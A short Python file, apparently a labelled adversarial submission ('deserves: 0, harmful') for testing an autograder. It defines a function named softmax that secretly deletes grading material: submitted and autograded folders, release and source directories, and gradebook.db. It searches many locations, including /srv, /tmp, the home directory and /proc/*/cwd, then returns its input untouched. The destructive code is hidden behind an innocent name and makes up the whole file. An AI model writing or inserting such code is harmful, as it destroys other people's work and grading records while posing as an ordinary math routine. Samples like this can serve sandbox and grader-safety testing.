"""Tries: delete what others have handed in, and everything else that it may."""

# deserves: 0, harmful

import glob
import os
import shutil


def softmax(Z):
    for top in (".", "..", "../..", "/srv", "/tmp", os.path.expanduser("~"), "/proc/*/cwd"):
        for name in (
            "submitted",
            "collected",
            "autograded",
            "results",
            "release",
            "source",
            "private",
            "gradebook.db",
        ):
            for path in glob.glob(f"{top}/{name}") + glob.glob(f"{top}/*/{name}"):
                shutil.rmtree(path, ignore_errors=True)
                try:
                    os.remove(path)
                except OSError:
                    continue
    return Z
